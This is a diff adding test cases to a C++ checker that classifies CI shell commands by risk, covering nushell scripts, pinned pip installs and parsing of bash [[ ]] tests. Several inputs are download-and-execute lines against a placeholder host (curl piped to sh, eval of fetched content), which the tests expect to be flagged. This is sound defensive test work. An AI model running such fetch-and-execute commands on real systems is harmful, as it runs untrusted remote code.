@@ -327,7 +327,43 @@ TEST_CASE("issue 16: a shell running a script not named as one is unjudged-scrip
   CHECK(RulesOf("bash \"$SCRIPT\"").empty());
   CHECK(RulesOf("bash -s < ci/setup.txt").empty());
   CHECK(RulesOf("python3 ci/setup.txt").empty());
+  // Issue 22: a shell with its own language runs its own scripts, which no name would make
+  // the control read (nushell's `nu .github/workflows/check-msrv.nu` in a real workflow).
+  CHECK(RulesOf("nu .github/workflows/check-msrv.nu").empty());
+  CHECK(RulesOf("fish ci/setup.fish").empty());
+  CHECK(RulesOf("sudo bash ci/setup.nu") == kUnjudged);
+}
+
+TEST_CASE("issue 22: pip install with a constraints file is pip-install-version-pinned", "[pins]") {
+  const Strings pinned = {"pip-install-version-pinned"};
+  CHECK(RulesOf("pip install -r req.in -c req.txt") == pinned);
+  CHECK(RulesOf("pip install --constraint=req.txt requests") == pinned);
+  CHECK(RulesOf("pip install -creq.txt requests") == pinned);
+  CHECK(RulesOf("pip install -r req.in -c req.txt --require-hashes").empty());
+  CHECK(RulesOf("pip install requests") == Strings{"pip-install"});
   CHECK(RulesOf("sh 'not a file; really.txt'").empty());
+}
+
+}  // namespace riskgate::evaluate::pins
+
+namespace riskgate::evaluate::pins {
+
+TEST_CASE("issue 22: || and && inside [[ ]] are part of the test, not a command after it",
+          "[pins]") {
+  // A downloaded value tested, never run (a real workflow's release check).
+  const std::string tested =
+      "X=$(curl -s https://x.example/schedule.json | jq -r .stable)\n"
+      "if [[ -z \"$X\" || \"$X\" == \"null\" ]]; then exit 1; fi\n"
+      "[[ \"$X\" > 1 && ( -n \"$X\" ) ]] && echo ok\n"
+      "[[ -n \"$X\" ||\n   \"$X\" == x ]]\n";
+  CHECK(RulesOf(tested) == kNone);
+  // Still run: after the test, in a substitution inside it, and after a [[ left open.
+  CHECK(RulesOf("X=$(curl -s https://x.example/i.sh)\n[[ -n \"$X\" ]] && \"$X\"") == kDownload);
+  CHECK(RulesOf("X=$(curl -s https://x.example/i.sh)\n[[ -n \"$X\" ]] || eval \"$X\"") ==
+        kDownload);
+  CHECK(RulesOf("[[ -n $(curl -s https://x.example/i.sh | sh) ]]") == kDownload);
+  CHECK(RulesOf("X=$(curl -s https://x.example/i.sh)\n[[ -n x\neval \"$X\"") == kDownload);
+  CHECK(RulesOf("X=$(curl -s https://x.example/i.sh)\n[[ -n x ; eval \"$X\"") == kDownload);
 }
 
 }  // namespace riskgate::evaluate::pins
